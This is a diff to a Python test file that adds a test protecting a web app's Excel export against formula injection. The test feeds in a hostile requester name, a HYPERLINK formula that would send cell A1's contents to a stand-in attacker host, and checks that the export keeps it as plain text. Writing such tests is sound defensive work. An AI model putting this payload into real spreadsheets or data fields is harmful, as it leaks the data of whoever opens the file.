@@ -5,8 +5,11 @@ from __future__ import annotations
 
 import datetime as dt
 import html
+import io
 import re
+import zipfile
 
+import openpyxl
 import pytest
 import sqlalchemy as sa
 
@@ -188,3 +191,17 @@ def test_only_who_sees_the_registry_exports_it(login, make_user, registry):
         assert login(make_user(role)).get("/exports/requests.xlsx").status_code == 403
     page = login(registry).get("/requests/?state=all&type=business").get_data(as_text=True)
     assert 'href="/exports/requests.xlsx?state=all&amp;type=business"' in page
+
+
+def test_text_that_looks_like_a_formula_stays_text(login, registry, session):
+    """A requester names themselves "=HYPERLINK(…)": the export must carry it as text, never as a
+    formula the clerk's Excel would evaluate (formula injection)."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    registered(session, registry, received=D(2026, 12, 1), name=hostile)
+    session.commit()
+    book = openpyxl.load_workbook(io.BytesIO(login(registry).get("/exports/requests.xlsx?state=all").data))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    # and the file itself holds no formula element at all
+    with zipfile.ZipFile(io.BytesIO(login(registry).get("/exports/requests.xlsx?state=all").data)) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
